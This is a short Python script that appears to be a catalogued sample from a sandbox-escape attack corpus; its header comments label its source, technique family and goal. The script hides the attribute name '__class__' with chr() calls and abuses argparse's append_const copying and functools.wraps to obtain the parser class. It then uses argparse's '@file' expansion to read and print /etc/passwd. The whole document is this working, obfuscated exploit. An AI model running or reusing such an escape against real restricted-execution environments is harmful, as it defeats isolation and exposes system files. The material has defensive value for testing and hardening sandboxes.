# source: as attack12aq_001; argparse _AppendConstAction copies its default with copy.copy too
# family: copy.copy of a renamed bound method = getattr by run-time name (variant: append_const action)
# goal: reads /etc/passwd (argparse @file expansion) through the ArgumentParser subclass handed back as a value
import argparse, functools
s = chr(95) * 2 + "class" + chr(95) * 2
ns = argparse.Namespace(__name__=s)


class P(argparse.ArgumentParser):
    @functools.wraps(ns)
    def m(self):
        return 1

    @classmethod
    def append(cls, v):
        return None


c = P()
q = argparse.ArgumentParser()
q.add_argument("--x", action="append_const", const=0, default=c.m)
K = q.parse_args(["--x"]).x
print("class:", K)
at = chr(64)
p = K("prog", None, None, None, [], argparse.HelpFormatter, "-", at)
p.add_argument("rest", nargs="*")
path = at + chr(47) + "etc" + chr(47) + "passwd"
print(p.parse_args([path]).rest[:5])
